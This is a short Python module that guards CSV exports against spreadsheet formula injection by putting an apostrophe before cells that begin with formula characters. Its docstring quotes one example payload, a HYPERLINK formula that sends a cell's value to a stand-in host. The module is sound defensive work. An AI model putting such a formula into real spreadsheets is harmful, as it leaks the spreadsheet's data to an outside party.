"""CSV cells a spreadsheet will not run (DESIGN.md "Security": CSV exports neutralise formulas).

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read as a formula by spreadsheet programs (a product named
``=HYPERLINK("http://evil.example/?x="&A1,"click")``): it gets a leading
``'``. Numbers stay numbers, including amounts already written as text
(``-12.50``).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell no spreadsheet reads as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every row goes through ``safe_cell``."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
